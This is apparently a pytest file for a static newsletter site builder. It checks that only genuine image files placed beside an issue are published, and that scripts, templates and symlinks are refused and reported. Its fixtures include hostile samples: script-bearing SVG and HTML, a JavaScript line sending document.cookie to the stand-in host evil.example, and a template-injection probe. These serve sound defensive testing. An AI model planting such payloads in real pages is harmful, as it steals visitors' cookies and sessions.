"""Beside an issue, images only: what a contributor commits under ``_static/issues/``.

The property, over every pairing of a file name's suffix with a content (a real
image of each type, an SVG or HTML page with a script, a script, a template):
a file is published exactly when it is an image an issue may show and holds
that image; every other file is reported at its path by the build (clean,
``-j 2``, incremental) and by ``newsletter check``, and is neither copied nor
rendered as a template.
"""

from __future__ import annotations

import itertools
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import BUILD_MODES, build_in_mode, copy_root

#: The first bytes of a real file of each type (enough for its signature).
CONTENTS = {
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
    "gif": b"GIF89a\x01\x00\x01\x00",
    "webp": b"RIFF\x1a\x00\x00\x00WEBPVP8 ",
    "avif": b"\x00\x00\x00\x1cftypavif\x00\x00",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "html": b"<!doctype html><script>alert(document.cookie)</script>",
    "js": b"fetch('https://evil.example/?c='+document.cookie)",
    "template": b"{{ 7 * 191 }}{% for i in range(3) %}x{% endfor %}",
}
SUFFIXES = (
    ".png",
    ".jpg",
    ".jpeg",
    ".gif",
    ".webp",
    ".avif",
    ".svg",
    ".html",
    ".js",
    ".css.jinja",
    ".txt_t",
    ".PNG",
)
#: Which content each allowed suffix must hold.
HOLDS = {
    ".png": "png",
    ".jpg": "jpg",
    ".jpeg": "jpg",
    ".gif": "gif",
    ".webp": "webp",
    ".avif": "avif",
    ".PNG": "png",
}


def plant(static: Path) -> dict[str, bool]:
    """Every suffix with every content under ``static/issues/0001/``; name -> published?"""
    folder = static / "issues" / "0001"
    folder.mkdir(parents=True, exist_ok=True)
    expected = {}
    for k, (suffix, kind) in enumerate(itertools.product(SUFFIXES, CONTENTS)):
        name = f"f{k}-{kind}{suffix}"
        (folder / name).write_bytes(CONTENTS[kind])
        expected[name] = HOLDS.get(suffix) == kind
    # A link to a real image outside the folder, and a linked folder: never followed.
    (folder / "link.png").symlink_to(folder / "f0-png.png")
    expected["link.png"] = False
    (static / "issues" / "0002").symlink_to(folder)
    return expected


@pytest.mark.parametrize("mode", BUILD_MODES)
def test_only_images_are_published_beside_an_issue(tmp_path: Path, mode: str) -> None:
    site = copy_root("basic", tmp_path / "site")
    expected: dict[str, bool] = {}
    built = build_in_mode(site, mode, lambda s: expected.update(plant(s / "_static")))
    published = built.outdir / "_static" / "issues"
    found = {p.name for p in published.rglob("*") if p.is_file()}
    assert found == {name for name, ok in expected.items() if ok}
    assert not (published / "0002").exists()
    # No template beside an issue was rendered anywhere in the site.
    assert not any(b"1337" in p.read_bytes() for p in built.outdir.rglob("*.css") if p.is_file())
    warned = {w.path for w in built.of("markup")}
    refused = {f"_static/issues/0001/{name}" for name, ok in expected.items() if not ok}
    assert refused | {"_static/issues/0002"} <= warned
    assert all(w.line == 1 for w in built.of("markup") if w.path.startswith("_static/"))


def test_newsletter_check_names_each_refused_file(tmp_path: Path) -> None:
    site = copy_root("basic", tmp_path / "site")
    expected = plant(site / "_static")
    result = subprocess.run(
        [Path(sys.executable).parent / "newsletter", "check", "--source", str(site)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 1
    lines = result.stdout.splitlines()
    for name, ok in expected.items():
        path = f"_static/issues/0001/{name}:1: error: "
        assert any(line.startswith(path) for line in lines) != ok, (name, result.stdout)
